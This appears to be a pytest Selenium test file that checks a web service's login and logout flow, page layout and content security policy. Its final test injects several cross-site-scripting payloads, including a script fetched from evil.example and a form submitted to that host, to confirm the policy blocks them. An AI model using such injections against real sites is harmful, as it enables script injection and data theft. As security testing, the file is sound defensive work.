"""Logging in and out in a browser, and what the content security policy stops."""

import threading

import pytest
import waitress
from selenium.webdriver.common.by import By
from selenium.webdriver.support.ui import WebDriverWait

from service.jobs.accounts import add_user
from service.settings import Settings
from service.store.connect import database_at
from service.store.moments import now
from service.store.projects import ensure_project
from service.web.app import create_app

PASSWORD = "velvet orbit candle mosaic"


@pytest.fixture(scope="module")
def guarded(tmp_path_factory):
    """Address of an empty project with one account, served."""
    settings = Settings(data=tmp_path_factory.mktemp("guarded"), project="Invented Broadband")
    with database_at(settings.database) as database:
        ensure_project(database, settings.project)
        add_user(database, "ann", "researcher", PASSWORD, actor="test", at=now())
    server = waitress.create_server(create_app(settings), host="127.0.0.1", port=0, threads=4)
    serving = threading.Thread(target=server.run, daemon=True)
    serving.start()
    yield f"http://127.0.0.1:{server.effective_port}"
    server.close()
    serving.join(timeout=5)


@pytest.fixture
def stranger(guarded, driver):
    driver.get(guarded + "/login")
    driver.delete_all_cookies()
    driver.get(guarded + "/login")
    driver.get_log("browser")
    return driver


def log_in(driver, password):
    driver.find_element(By.ID, "name").clear()
    driver.find_element(By.ID, "name").send_keys("ann")
    driver.find_element(By.ID, "password").send_keys(password)
    driver.find_element(By.CSS_SELECTOR, ".login button").click()


def said(driver):
    return [entry["message"] for entry in driver.get_log("browser")]


def test_a_person_logs_in_where_they_wanted_to_be_and_out_again(guarded, stranger):
    stranger.get(guarded + "/comments?words=slow")
    assert "/login" in stranger.current_url
    assert stranger.switch_to.active_element.get_attribute("id") == "name"
    log_in(stranger, PASSWORD)
    WebDriverWait(stranger, 20).until(lambda _: "/comments?words=slow" in stranger.current_url)
    assert "ann" in stranger.find_element(By.CSS_SELECTOR, ".account").text
    assert stranger.execute_script("return document.cookie") == "", "scripts see no cookie"
    stranger.find_element(By.CSS_SELECTOR, ".account button").click()
    WebDriverWait(stranger, 20).until(lambda _: "/login" in stranger.current_url)
    stranger.get(guarded + "/comments")
    assert "/login" in stranger.current_url
    assert said(stranger) == []


def test_a_wrong_password_is_told_and_the_name_stays(stranger):
    log_in(stranger, "wrong")
    problem = WebDriverWait(stranger, 20).until(lambda _: stranger.find_element(By.CSS_SELECTOR, "[role=alert]"))
    assert problem.text == "The name or the password is not right."
    assert stranger.find_element(By.ID, "name").get_attribute("value") == "ann"
    assert stranger.switch_to.active_element.get_attribute("id") == "password"


@pytest.mark.parametrize("width", [320, 390, 1280])
def test_the_login_fits_every_width(guarded, stranger, width):
    metrics = {"width": width, "height": 900, "deviceScaleFactor": 1, "mobile": width < 600}
    stranger.execute_cdp_cmd("Emulation.setDeviceMetricsOverride", metrics)
    stranger.get(guarded + "/login")
    assert stranger.execute_script("return document.documentElement.scrollWidth") <= width
    assert said(stranger) == []


@pytest.mark.parametrize(
    "attack",
    [
        "const s = document.createElement('script'); s.textContent = 'window.ran = 1'; document.body.append(s)",
        "document.body.insertAdjacentHTML('beforeend', '<img src=x: onerror=\"window.ran = 1\">')",
        "document.body.insertAdjacentHTML('beforeend', '<p style=\"color: red\">x</p>')",
        "const s = document.createElement('style'); s.textContent = 'p { color: red }'; document.body.append(s)",
        "const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.body.append(s)",
        "document.body.insertAdjacentHTML('beforeend', '<iframe src=\"/login\"></iframe>')",
        "const f = document.createElement('form'); f.action = '//evil.example'; document.body.append(f); f.submit()",
    ],
)
def test_what_got_into_a_page_all_the_same_is_stopped_by_the_policy(stranger, attack):
    stranger.execute_script(
        "window.stopped = []; document.onsecuritypolicyviolation = e => stopped.push(e.violatedDirective)"
    )
    stranger.execute_script(attack)
    WebDriverWait(stranger, 10).until(lambda _: stranger.execute_script("return stopped.length"))
    assert stranger.execute_script("return window.ran") is None
    stranger.get_log("browser")
